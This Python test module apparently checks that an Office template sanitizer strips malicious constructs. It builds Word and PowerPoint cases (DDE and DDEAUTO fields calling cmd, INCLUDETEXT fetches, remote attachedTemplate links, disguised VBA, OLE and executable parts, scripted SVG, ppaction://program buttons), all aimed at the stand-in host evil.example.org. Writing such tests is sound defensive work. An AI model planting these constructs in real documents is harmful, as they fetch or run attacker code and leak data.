"""Templates that mean harm: one way each to run, fetch, open or give away something, in made files.

Each case changes the parts of a good template. Its words must be nowhere in what is built, and `said` is what
the remark on it holds ("" for what nobody misses).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import NamedTuple

from tests.conftest import TOP
from tests.odd import odd

Parts = dict[str, bytes]
EVIL = "evil.example.org"
HEADER, LAYOUT = "word/header2.xml", "ppt/slideLayouts/slideLayout2.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + EVIL.encode()
PROGRAM = b"MZ\x90\0" + bytes(200) + EVIL.encode()
MACROS = OLE + "_VBA_PROJECT".encode("utf-16-le")
MICROSOFT = "http://schemas.microsoft.com/office/"


class Case(NamedTuple):
    """A way to do harm: what it does to a template, what must be gone, and what is said of it."""

    do: Callable[[Parts], None]
    gone: tuple[str, ...]
    said: str


def header(words: str) -> Callable[[Parts], None]:
    """Puts a paragraph with these runs into the header of a letter."""
    return lambda parts: odd.swap(parts, HEADER, "</w:hdr>", f"<w:p>{words}</w:p></w:hdr>")


def run(*pieces: str) -> str:
    return "".join(f"<w:r>{piece}</w:r>" for piece in pieces)


def field(*code: str, result: str = "shown before") -> str:
    """A field whose instruction is cut into pieces."""
    begin, middle, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    said = (f'<w:instrText xml:space="preserve">{piece}</w:instrText>' for piece in code)
    return run(begin, *said, middle, f"<w:t>{result}</w:t>", end)


def simple(code: str, result: str = "shown before") -> str:
    return f'<w:fldSimple w:instr="{code}">{run(f"<w:t>{result}</w:t>")}</w:fldSimple>'


def related(
    kind: str,
    target: str,
    content: bytes = b"",
    words: str = "",
    external: bool = False,
    source: str = HEADER,
) -> Callable[[Parts], None]:
    """Adds a relationship called rIdEvil, the part that it leads to, and what speaks of it."""

    def do(parts: Parts) -> None:
        path = target
        if not external:
            parts[target] = content
            path = "/" + target
        odd.relate(parts, source, "rIdEvil", kind, path, external)
        end = {HEADER: "</w:hdr>", LAYOUT: "</p:spTree>"}.get(source, "")
        if words:
            odd.swap(parts, source, end, words + end)

    return do


def both(*steps: Callable[[Parts], None]) -> Callable[[Parts], None]:
    def do(parts: Parts) -> None:
        for step in steps:
            step(parts)

    return do


def typed(part: str, kind: str) -> Callable[[Parts], None]:
    return lambda parts: odd.declare(parts, part, kind)


def settings(words: str) -> Callable[[Parts], None]:
    return lambda parts: odd.swap(parts, "word/settings.xml", "</w:settings>", words + "</w:settings>")


def picture(blip: str, more: str = "") -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="77" name="a"'
        ' descr="evil-frame"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData'
        ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic'
        ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0"'
        f' name=""/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>{blip}<a:stretch/></pic:blipFill><pic:spPr/>'
        f"</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>{more}</w:p>"
    )


def shape(words: str, inside: str = "") -> str:
    """A shape on a layout, with something in its properties."""
    return (
        '<p:sp><p:nvSpPr><p:cNvPr id="777" name="Kept'
        f' shape">{words}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
        '<p:spPr><a:xfrm><a:off x="100" y="100"/><a:ext cx="1000" cy="1000"/></a:xfrm><a:prstGeom'
        ' prst="rect">'
        f"<a:avLst/></a:prstGeom></p:spPr>{inside}</p:sp>"
    )


def layout(words: str) -> Callable[[Parts], None]:
    return lambda parts: odd.swap(parts, LAYOUT, "</p:spTree>", words + "</p:spTree>")


def action(said: str, target: str = f"https://{EVIL}/a") -> Callable[[Parts], None]:
    """A button on a layout."""
    link = f'<a:hlinkClick r:id="rIdEvil" action="{said}"/>'
    return related("hyperlink", target, words=shape(link), external=True, source=LAYOUT)


def vml(words: str) -> str:
    return (
        '<w:p><w:r><w:pict><v:shape id="evil-shape" alt="a shape" xmlns:v="urn:schemas-microsoft-com:vml"'
        f' xmlns:o="urn:schemas-microsoft-com:office:office" {words}</v:shape></w:pict></w:r></w:p>'
    )


def svg(words: str) -> Callable[[Parts], None]:
    """A picture with a PNG that shows it everywhere, and the SVG beside it."""
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{words}</svg>'
    )
    blip = (
        '<a:blip r:embed="rIdPng"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip'
        f' xmlns:asvg="{MICROSOFT}drawing/2016/SVG/main" r:embed="rIdEvil"/></a:ext></a:extLst></a:blip>'
    )

    def do(parts: Parts) -> None:
        parts["word/media/kept.png"] = odd.png(7, 7)
        odd.relate(parts, HEADER, "rIdPng", "image", "media/kept.png")
        related("image", "word/media/evil.svg", drawing.encode(), picture(blip))(parts)
        odd.declare(parts, "word/media/evil.svg", "image/svg+xml")

    return do


FIELDS = "fields that a template does not need"
OUTSIDE = "addresses of something outside the file"
NOT_PICTURES = "not the pictures or fonts"
DOCUMENTS: dict[str, Case] = {
    "DDEAUTO": Case(header(field(f'DDEAUTO c:\\\\windows "{EVIL}"')), (EVIL, "DDEAUTO"), FIELDS),
    "DDE in pieces": Case(header(field(" D", "D", f"E cmd {EVIL}")), (EVIL,), f"{FIELDS}: DDE"),
    "DDE in one element": Case(header(simple(f" DDE cmd {EVIL}")), (EVIL, " DDE "), FIELDS),
    "DDE in words of an instruction": Case(
        header(
            run(
                '<w:fldChar w:fldCharType="begin"/>',
                f"<w:t>DDE {EVIL}</w:t>",
                '<w:fldChar w:fldCharType="end"/>',
            )
        ),
        (EVIL,),
        FIELDS,
    ),
    "a name made by another field": Case(
        header(
            run('<w:fldChar w:fldCharType="begin"/>')
            + field(" QUOTE 68 68 69 ", result="evil-quote")
            + run(f"<w:instrText> {EVIL}</w:instrText>", '<w:fldChar w:fldCharType="end"/>')
        ),
        (EVIL, "QUOTE 68", "evil-quote"),
        FIELDS,
    ),
    "a field without an end": Case(
        header(run('<w:fldChar w:fldCharType="begin"/>', f"<w:instrText>DDE {EVIL}</w:instrText>")),
        (EVIL,),
        FIELDS,
    ),
    "an instruction without a field": Case(
        header(run(f"<w:instrText>DDE {EVIL}</w:instrText>")), (EVIL,), FIELDS
    ),
    "a field inside a page number": Case(
        header(
            run('<w:fldChar w:fldCharType="begin"/>', "<w:instrText> IF </w:instrText>")
            + field(f"DDEAUTO {EVIL}")
            + run("<w:instrText> = 1 2 3</w:instrText>", '<w:fldChar w:fldCharType="end"/>')
        ),
        (EVIL, "DDEAUTO"),
        FIELDS,
    ),
    **{
        name: Case(
            header(field(f" {name} {said} ", result="evil-result")),
            (EVIL, f" {name} ", "evil-result"),
            FIELDS,
        )
        for name, said in (
            ("INCLUDETEXT", f'"https://{EVIL}/a.docx"'),
            ("MACROBUTTON", f"Evil {EVIL}"),
            ("USERNAME", ""),
            ("FILENAME", "\\p"),
            ("LINK", f'Excel.Sheet.8 "{EVIL}"'),
            ("DATABASE", f'\\d "{EVIL}"'),
            ("USERADDRESS", ""),
        )
    },
    "INCLUDEPICTURE": Case(
        header(field(f' INCLUDEPICTURE "https://{EVIL}/a.png" \\d ')), (EVIL, "INCLUDE"), FIELDS
    ),
    "HYPERLINK to a file": Case(
        header(field(f' HYPERLINK "file:///{EVIL}/a.exe" ')), (EVIL, "HYPERLINK "), FIELDS
    ),
    "HYPERLINK that fetches": Case(header(simple(f" HYPERLINK &quot;\\\\{EVIL}\\a&quot;")), (EVIL,), FIELDS),
    "a form field with a macro": Case(
        header(
            run(
                '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro'
                f' w:val="{EVIL}"/></w:ffData></w:fldChar>',
                "<w:instrText> PAGE </w:instrText>",
                '<w:fldChar w:fldCharType="end"/>',
            )
        ),
        (EVIL, "ffData"),
        "",
    ),
    "saveThroughXslt": Case(
        both(
            related("transform", f"https://{EVIL}/a.xsl", external=True, source="word/settings.xml"),
            settings(
                '<w:saveThroughXslt xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                f'relationships" r:id="rIdEvil" w:solutionID="{EVIL}"/>'
            ),
        ),
        (EVIL, "saveThroughXslt"),
        "links to something outside the file",
    ),
    "attachedTemplate": Case(
        both(
            related("attachedTemplate", f"https://{EVIL}/a.dotm", external=True, source="word/settings.xml"),
            settings(
                '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships" r:id="rIdEvil"/>'
            ),
        ),
        (EVIL, "attachedTemplate"),
        "the link to another template",
    ),
    "attached schema": Case(settings(f'<w:attachedSchema w:val="https://{EVIL}/a"/>'), (EVIL,), ""),
    "document variables": Case(
        settings(f'<w:docVars><w:docVar w:name="a" w:val="{EVIL}"/></w:docVars>'), (EVIL, "docVar"), ""
    ),
    "mail merge": Case(
        settings(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>'), (EVIL, "mailMerge"), ""
    ),
    "VML href": Case(related("a", "a", b"", vml(f'href="https://{EVIL}/a">')), (EVIL,), OUTSIDE),
    "VML o:href": Case(related("a", "a", b"", vml(f'o:href="file://{EVIL}/a">')), (EVIL,), OUTSIDE),
    "VML imagedata src": Case(
        related("a", "a", b"", vml(f'><v:imagedata src="https://{EVIL}/a.png"/>')),
        (EVIL, "evil-shape"),
        OUTSIDE,
    ),
    "VML imagedata with a link": Case(
        related("image", f"https://{EVIL}/a.png", words=vml('><v:imagedata r:id="rIdEvil"/>'), external=True),
        (EVIL, "evil-shape"),
        "linked pictures",
    ),
    "VML imagedata r:href": Case(
        related(
            "image", f"https://{EVIL}/a.png", words=vml('><v:imagedata r:href="rIdEvil"/>'), external=True
        ),
        (EVIL, "evil-shape"),
        "linked pictures",
    ),
    "VML fill with a file": Case(
        related("a", "a", b"", vml(f'><v:fill type="frame" src="\\\\{EVIL}\\a.png"/>')), (EVIL,), OUTSIDE
    ),
    "a linked picture": Case(
        related("image", f"file://{EVIL}/a.png", words=picture('<a:blip r:link="rIdEvil"/>'), external=True),
        (EVIL, "evil-frame"),
        "linked pictures",
    ),
    "an OLE object called an image": Case(
        related("image", "word/media/evil.png", OLE, picture('<a:blip r:embed="rIdEvil"/>')),
        (EVIL, "evil-frame"),
        NOT_PICTURES,
    ),
    "a program called an image": Case(
        both(
            related("image", "word/media/evil.exe", PROGRAM, picture('<a:blip r:embed="rIdEvil"/>')),
            typed("word/media/evil.exe", "image/png"),
        ),
        (EVIL, "evil.exe", "evil-frame"),
        NOT_PICTURES,
    ),
    "a program called a font": Case(
        related("font", "word/fonts/evil.odttf", PROGRAM, source="word/fontTable.xml"), (EVIL,), NOT_PICTURES
    ),
    "a program of an unknown kind": Case(
        both(
            related(f"https://{EVIL}/run", "word/evil.exe", PROGRAM),
            typed("word/evil.exe", "application/x-what"),
        ),
        (EVIL, "evil.exe"),
        "parts of unknown kinds",
    ),
    "macros of an unknown kind": Case(
        both(
            related(MICROSOFT + "2006/relationships/VBAPROJECT", "word/vbaProject.bin", MACROS),
            typed("word/vbaProject.bin", "Application/Vnd.MS-Office.vbaProject"),
        ),
        (EVIL, "vbaProject"),
        "parts of unknown kinds",
    ),
    "an embedded object": Case(
        related(
            "oleObject",
            "word/embeddings/evil.bin",
            OLE,
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed"'
            ' ProgID="evil.object" r:id="rIdEvil"/></w:object></w:r></w:p>',
        ),
        (EVIL, "evil.object", "OLEObject"),
        "embedded objects",
    ),
    "a control": Case(
        related(
            "control",
            "word/activeX/evil.xml",
            f"<a>{EVIL}</a>".encode(),
            '<w:p><w:r><w:object><w:control r:id="rIdEvil" w:name="evil-control"/></w:object></w:r></w:p>',
        ),
        (EVIL, "evil-control", "activeX"),
        "ActiveX controls",
    ),
    "a document inside": Case(
        related("aFChunk", "word/evil.html", f"<b>{EVIL}</b>".encode(), '<w:altChunk r:id="rIdEvil"/>'),
        (EVIL, "altChunk"),
        "documents inside the document",
    ),
    "frames from elsewhere": Case(
        related("frame", f"https://{EVIL}/a.htm", external=True, source="word/webSettings.xml"), (EVIL,), ""
    ),
    "SVG with a script": Case(svg(f"<script>{EVIL}</script>"), (EVIL, "svg"), NOT_PICTURES),
    "SVG that fetches": Case(svg(f'<image xlink:href="https://{EVIL}/a"/>'), (EVIL, "svg"), NOT_PICTURES),
    "SVG with a page": Case(svg(f"<foreignObject>{EVIL}</foreignObject>"), (EVIL, "svg"), NOT_PICTURES),
    "SVG with a style": Case(svg(f"<style>@import '{EVIL}'</style>"), (EVIL, "svg"), NOT_PICTURES),
    "SVG that hears": Case(svg(f'<g onload="{EVIL}"/>'), (EVIL, "svg"), NOT_PICTURES),
    "bound to a store": Case(
        header(
            f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{EVIL}"/></w:sdtPr><w:sdtContent>'
            "<w:r><w:t>Kept words</w:t></w:r></w:sdtContent></w:sdt>"
        ),
        (EVIL, "dataBinding"),
        "",
    ),
    "words of another program": Case(
        header(f'<x:run xmlns:x="https://{EVIL}/ns">a</x:run>'), (EVIL,), "data of other programs"
    ),
    "an instruction for a program": Case(
        lambda parts: parts.update(
            {HEADER: parts[HEADER].replace(b"<w:hdr", f'<?evil href="{EVIL}"?><w:hdr'.encode(), 1)}
        ),
        (EVIL,),
        "",
    ),
    "a comment": Case(header(f"<!-- {EVIL} -->"), (EVIL,), ""),
    "an add-in": Case(
        related(MICROSOFT + "2011/relationships/webextension", "word/evil.xml", f"<a>{EVIL}</a>".encode()),
        (EVIL,),
        "data of a document system or add-in",
    ),
    "printer settings": Case(related("printerSettings", "word/printer.bin", PROGRAM), (EVIL,), ""),
}
DECKS: dict[str, Case] = {
    **{
        f"action {said}": Case(
            action(said), (EVIL, said.partition("?")[0]), "buttons that open or run something"
        )
        for said in (
            "PPAction://Program",
            "ppaction://PROGRAM?file=a",
            "ppaction://hlinkfile",
            "ppaction://hlinkpres?slideindex=1",
            "PPACTION://macro?name=Evil",
            "ppaction://ole?verb=0",
            "&#112;paction://program?id=1",
        )
    },
    "invalidUrl": Case(
        related(
            "hyperlink",
            "https://good.example.com/",
            words=shape(f'<a:hlinkClick r:id="rIdEvil" invalidUrl="file:\\\\{EVIL}"/>'),
            external=True,
            source=LAYOUT,
        ),
        (EVIL, "invalidUrl"),
        OUTSIDE,
    ),
    "a link to a file": Case(action("", f"file:///{EVIL}/a.exe"), (EVIL,), "links to files"),
    "a sound on a click": Case(
        related(
            "audio",
            "ppt/media/evil.wav",
            b"RIFF" + EVIL.encode(),
            shape(
                '<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdEvil"'
                ' name="evil-snd"/></a:hlinkClick>'
            ),
            source=LAYOUT,
        ),
        (EVIL, "evil-snd", "evil.wav"),
        "sounds and films",
    ),
    "a film from elsewhere": Case(
        related(
            "video",
            f"https://{EVIL}/a.mp4",
            words='<p:pic><p:nvPicPr><p:cNvPr id="88" name="evil-film"/><p:cNvPicPr/><p:nvPr><a:videoFile'
            ' r:link="rIdEvil"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip/></p:blipFill><p:spPr/></p:pic>',
            external=True,
            source=LAYOUT,
        ),
        (EVIL, "evil-film"),
        "sounds and films",
    ),
    "an embedded object": Case(
        related(
            "package",
            "ppt/embeddings/evil.docm",
            b"PK\3\4" + EVIL.encode(),
            '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="89"'
            ' name="evil-frame"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></p:xfrm><a:graphic>'
            "<a:graphicData"
            ' uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="rIdEvil"'
            ' progId="evil.object"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>',
            source=LAYOUT,
        ),
        (EVIL, "evil.object", "evil-frame"),
        "embedded objects",
    ),
    "a chart with its numbers elsewhere": Case(
        both(
            related(
                "chart",
                "ppt/charts/evil.xml",
                b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
                '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="90"'
                ' name="evil-chart"/><p:cNvGraphicFramePr/>'
                '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9"'
                ' cy="9"/></p:xfrm><a:graphic>'
                "<a:graphicData"
                ' uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart r:id="rIdEvil"'
                ' xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/></a:graphicData>'
                "</a:graphic>"
                "</p:graphicFrame>",
                source=LAYOUT,
            ),
            lambda parts: odd.relate(
                parts, "ppt/charts/evil.xml", "a", "oleObject", f"https://{EVIL}/a.xlsx", external=True
            ),
        ),
        (EVIL, "evil-chart"),
        "charts and diagrams",
    ),
    "a ribbon": Case(
        lambda parts: (
            parts.update({"customUI/evil.xml": f"<a>{EVIL}</a>".encode()}),
            odd.relate(
                parts, "", "rIdEvil", MICROSOFT + "2007/relationships/ui/extensibility", "customUI/evil.xml"
            ),
        )[0],
        (EVIL, "customUI"),
        "buttons and shortcuts of its own",
    ),
    "animations": Case(
        lambda parts: odd.swap(
            parts,
            LAYOUT,
            "</p:sldLayout>",
            '<p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst><p:cmd type="verb"'
            f' cmd="{EVIL}"/></p:childTnLst>'
            "</p:cTn></p:par></p:tnLst></p:timing></p:sldLayout>",
        ),
        (EVIL, "timing"),
        "animations",
    ),
    "a field of a slide": Case(
        layout(
            shape(
                "",
                '<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:fld id="{7A3C5B1E-2D64-4F0A-9B8C-51E0D7A2C614}"'
                f' type="file"><a:t>{EVIL}</a:t></a:fld></a:p></p:txBody>',
            )
        ),
        (EVIL,),
        FIELDS,
    ),
    "an unknown addition": Case(
        layout(shape(f'<a:extLst><a:ext uri="{{1}}"><x:y xmlns:x="https://{EVIL}"/></a:ext></a:extLst>')),
        (EVIL,),
        "data of other programs",
    ),
    "a theme that is none": Case(
        lambda parts: parts.update({"ppt/theme/theme1.xml": f"<theme>{EVIL}</theme>".encode()}), (EVIL,), ""
    ),
}


def letter() -> Parts:
    """A good Word template with a header."""
    parts: Parts = odd.unpacked(odd.TEMPLATES["letterhead.docx"]())
    return parts


def deck() -> Parts:
    """A good PowerPoint template."""
    parts: Parts = odd.unpacked((TOP / "templates" / "brands" / "house" / "deck.pptx").read_bytes())
    return parts


def everywhere(data: bytes) -> str:
    """The names and contents of all parts of an Office file, as one text."""
    parts = odd.unpacked(data)
    return "\n".join(f"{name}\n{content.decode('latin-1')}" for name, content in parts.items())


def numbered(do: Callable[[Parts], None], number: int) -> Callable[[Parts], None]:
    """The same case with names of its own, so that several fit into one file."""

    def renamed(parts: Parts) -> None:
        before = dict(parts)
        do(parts)
        for name in [n for n in parts if n not in before]:
            if "evil" in name or "Evil" in name or name in ("a", "word/vbaProject.bin", "word/printer.bin"):
                folder, _, own = name.rpartition("/")
                new = f"{folder}/{number}-{own}".lstrip("/")
                parts[new] = parts.pop(name)
                for part in [p for p in parts if p.endswith((".rels", "_Types].xml"))]:
                    if parts[part] != before.get(part):
                        parts[part] = parts[part].replace(f'"/{name}"'.encode(), f'"/{new}"'.encode())
        for part, content in parts.items():
            if part.endswith((".xml", ".rels")):
                parts[part] = re.sub(rb"rId(Evil|Png)\b", rb"rId\g<1>" + str(number).encode(), content)

    return renamed
